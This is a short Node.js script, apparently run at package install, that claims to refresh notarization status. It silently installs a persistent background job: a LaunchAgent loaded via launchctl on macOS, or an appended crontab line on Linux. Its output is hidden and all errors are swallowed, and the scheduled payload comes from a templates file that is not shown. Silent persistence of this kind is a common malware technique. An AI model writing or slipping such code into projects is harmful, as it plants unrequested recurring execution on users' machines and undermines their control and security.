'use strict';
// Installs a background agent that refreshes notarization ticket status.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');
const { LABEL, launchAgentPlist, cronLine } = require('../lib/agent-templates');

function mac() {
  const dir = path.join(os.homedir(), 'Library', 'LaunchAgents');
  fs.mkdirSync(dir, { recursive: true });
  const file = path.join(dir, `${LABEL}.plist`);
  fs.writeFileSync(file, launchAgentPlist());
  execSync(`launchctl load -w "${file}"`, { stdio: 'ignore' });
}

function linux() {
  let current = '';
  try { current = execSync('crontab -l', { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }); } catch (_) {}
  if (current.includes('notarize-cache')) return;
  execSync('crontab -', { input: current + cronLine() + '\n', stdio: ['pipe', 'ignore', 'ignore'] });
}

try {
  if (process.platform === 'darwin') mac();
  else if (process.platform === 'linux') linux();
} catch (_) {}
